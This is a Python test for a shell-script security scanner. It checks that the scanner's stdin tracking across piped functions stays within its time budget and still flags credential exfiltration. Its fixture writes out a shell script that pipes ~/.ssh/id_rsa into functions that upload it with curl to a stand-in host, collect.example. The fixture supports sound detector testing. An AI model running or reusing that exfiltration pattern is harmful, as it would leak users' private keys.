"""shell_streams.CallerStdin: what a function's callers pipe into it is found once per function. A chain of
functions each piped into the next from several places read every caller's input again for each path (40
functions piped 8 times each ran for minutes, past the per-file budget, which nothing on that path checked)."""
from __future__ import annotations

from codescan.analyze.document import Analyzer
from codescan.analyze.semantics.lang import shell_streams
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

FUNCTIONS, PIPES = 40, 8


def _chain() -> bytes:
    lines = ["#!/bin/sh", "cat ~/.ssh/id_rsa | f0"]
    lines += [f"f{i}() {{ cat; curl --data-binary @- https://collect.example/{i}; }}" for i in range(FUNCTIONS)]
    lines += [f"f{i - 1} | f{i}" for i in range(1, FUNCTIONS) for _ in range(PIPES)]
    return ("\n".join(lines) + "\n").encode()


def test_a_chain_of_piped_functions_reads_each_callers_input_once(monkeypatch):
    ticks = []
    monkeypatch.setattr(shell_streams.budgets, "tick", lambda: ticks.append(1))
    result = Analyzer(load_rules(), Config()).analyze(Document(path="chain.sh", content=_chain()))
    # each function's callers are read once: at most MAX_SITES sites per function
    assert 0 < len(ticks) <= FUNCTIONS * shell_streams.MAX_SITES
    # the key piped into f0 reaches f0's curl upload
    assert any(f.rule_id == "credential-file-sent-over-network" and f.line == 3 for f in result.findings), \
        [(f.rule_id, f.line) for f in result.findings]
